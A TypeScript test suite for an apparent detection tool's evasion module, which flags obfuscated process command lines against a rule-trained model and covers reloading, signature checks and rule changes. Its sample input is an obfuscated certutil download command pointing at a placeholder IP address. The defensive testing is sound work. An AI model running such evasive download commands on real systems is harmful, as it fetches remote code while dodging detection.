import { afterEach, beforeEach, expect, setDefaultTimeout, test } from "bun:test"
import { generateKeyPairSync } from "node:crypto"
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import * as v from "valibot"
import type { Event } from "#shared/ecs/event.ts"
import { openMetrics } from "#shared/telemetry/metrics.ts"
import { until } from "#shared/testing/programs.ts"
import { type EvasionGiven, openEvasion } from "./live.ts"
import { saveModel } from "./model-file.ts"
import { evasionOptions } from "./open.ts"
import { signModel } from "./signature.ts"
import { ruleYaml, smallModel, smallRules } from "./small-model.ts"

setDefaultTimeout(60_000) // a model of the rules in force takes seconds to make

let folder: string
let stopping: AbortController
const modelFile = () => join(folder, "model.onnx")
const inFolder = (name: string) => join(folder, name)

beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), "vedette-evasion-"))
  stopping = new AbortController()
  mkdirSync(inFolder("rules"))
  for (const [i, text] of smallRules.entries()) writeFileSync(inFolder(`rules/${i}.yml`), text)
  await saveModel(smallModel(), modelFile())
})

afterEach(() => {
  stopping.abort()
  rmSync(folder, { recursive: true })
})

const given = (options: object = {}): EvasionGiven => ({
  evasion: v.parse(evasionOptions, { firstTrainingMsMax: 120_000, ...options }),
  folders: [inFolder("rules")],
})

const own = (more: object = {}) => given({ modelFile: modelFile(), ...more })

const noStore = {
  search: () => Promise.resolve({ total: 0, events: [], caveats: [] }),
  documents: () => Promise.resolve([]),
}

function open(first: EvasionGiven, warned: string[] = []) {
  const log = { debug() {}, info() {}, error() {}, warn: (text: string) => void warned.push(text) }
  const deps = { now: () => 2_000_000, metrics: openMetrics(), log }
  const parts = { home: folder, store: noStore, tagsOf: () => [] }
  return openEvasion(first, parts, deps, stopping.signal)
}

type Live = Awaited<ReturnType<typeof open>>

function alertOn({ stage }: Live, line: string): Event | undefined {
  const out: Event[] = []
  stage({ "event.id": line, "process.command_line": line }, out)
  return out[0]
}

const evasion = 'certutil url""cache ht^tp://192.0.2.1/a'

test("the model that is configured scores from the first event on", async () => {
  const live = await open(own())
  expect(alertOn(live, evasion)?.["rule.name"]).toBe("Evasion of: download")
  expect(live.standing()).toMatchObject({ model: "own", ageMs: 1_000_000 })
})

test("a model file that has changed is taken over, one that has not is left", async () => {
  const live = await open(own())
  expect(await live.prepare(own())).toBeUndefined()
  await saveModel(smallModel([smallRules[1]!]), modelFile())
  const change = await live.prepare(own())
  expect(live.standing().kinds[0]?.rules).toBe(2)
  await change?.commit()
  expect(live.standing().kinds[0]?.rules).toBe(1)
})

test.each([
  ["is cut", (path: string) => writeFileSync(path, "ONNX"), "is not the file that"],
  ["has no metadata", (path: string) => rmSync(`${path}.json`), "is not there"],
  ["has other metadata", (path: string) => writeFileSync(`${path}.json`, "{}"), "json: "],
  ["has metadata that is no JSON", (path: string) => writeFileSync(`${path}.json`, "{"), "no JSON"],
])("a model file that %s is refused in words, and the old one goes on", async (_, spoil, why) => {
  const live = await open(own())
  spoil(modelFile())
  await expect(live.prepare(own())).rejects.toThrow(new RegExp(`evasion.modelFile.*${why}`))
  expect(alertOn(live, evasion)).toBeDefined()
})

test("a rule that is added is named once it is in force, with the same model", async () => {
  const live = await open(own())
  writeFileSync(inFolder("rules/new.yml"), ruleYaml("new", "quuxzilla.exe", "exfiltrate, now"))
  const change = await live.prepare(own())
  await change?.commit()
  await until("three rules", async () => live.standing().kinds[0]?.rules === 3)
  expect(alertOn(live, "quuxzilla ex^filtrate now")?.["rule.name"]).toBe("Evasion of: new")
  expect(alertOn(live, evasion)?.["rule.name"]).toBe("Evasion of: download")
})

test("a rule that is taken away is named no more", async () => {
  const live = await open(own())
  rmSync(inFolder("rules/0.yml"))
  await (await live.prepare(own()))?.commit()
  await until("one rule", async () => live.standing().kinds[0]?.rules === 1)
  expect(alertOn(live, evasion)).toBeUndefined()
})

test("it is switched off and on while it runs", async () => {
  const live = await open(own())
  await (await live.prepare(own({ enabled: false })))?.commit()
  const event: Event = { "process.command_line": evasion }
  live.stage(event, [])
  expect(event["vedette.evasion.outcome"]).toBeUndefined()
  expect(live.standing().model).toBe("off")
  await (await live.prepare(own()))?.commit()
  expect(alertOn(live, evasion)).toBeDefined()
})

test("a model that must be signed is refused unsigned, changed after it, or signed by another", async () => {
  const { publicKey, privateKey } = generateKeyPairSync("ed25519")
  const other = generateKeyPairSync("ed25519").privateKey
  writeFileSync(inFolder("public.pem"), publicKey.export({ type: "spki", format: "pem" }))
  const pem = { type: "pkcs8", format: "pem" } as const
  writeFileSync(inFolder("key.pem"), privateKey.export(pem))
  writeFileSync(inFolder("other.pem"), other.export(pem))
  const signed = own({ publicKeyFile: inFolder("public.pem") })
  await expect(open(signed)).rejects.toThrow("signature is not there")
  await signModel(modelFile(), inFolder("other.pem"))
  await expect(open(signed)).rejects.toThrow("is not signed with the key")
  await signModel(modelFile(), inFolder("key.pem"))
  expect(alertOn(await open(signed), evasion)).toBeDefined()
  await saveModel(smallModel(smallRules, 2), modelFile())
  await expect(open(signed)).rejects.toThrow("is not signed with the key")
})

test("a threshold that is a guess is said in the log and in health", async () => {
  const warned: string[] = []
  const live = await open(own(), warned)
  expect(warned[0]).toContain("guesses for process_creation")
  expect(live.standing().advice[0]).toContain("guess for process_creation")
})

test("a model of the rules in force is made at the first start, and is there at once at the next", async () => {
  const first = await open(given())
  expect(first.standing().model).toBe("none yet")
  await first.first
  expect(alertOn(first, evasion)?.["rule.name"]).toBe("Evasion of: download")
  expect(first.standing()).toMatchObject({ model: "ships", advice: [expect.any(String)] })
  const second = await open(given())
  expect(alertOn(second, evasion)).toBeDefined()
})

test("a model that can't be kept scores all the same, and that is told", async () => {
  writeFileSync(inFolder("evasion"), "in its way")
  const live = await open(given())
  await live.first
  expect(alertOn(live, evasion)).toBeDefined()
  expect(live.problems()).toEqual([expect.stringContaining("could not be kept")])
})

test("without a rule that looks into known texts there is no model, and no wait for one", async () => {
  rmSync(inFolder("rules"), { recursive: true })
  mkdirSync(inFolder("rules"))
  const live = await open(given())
  await live.first
  expect(live.standing().model).toBe("none yet")
  expect(live.problems()).toEqual([])
})
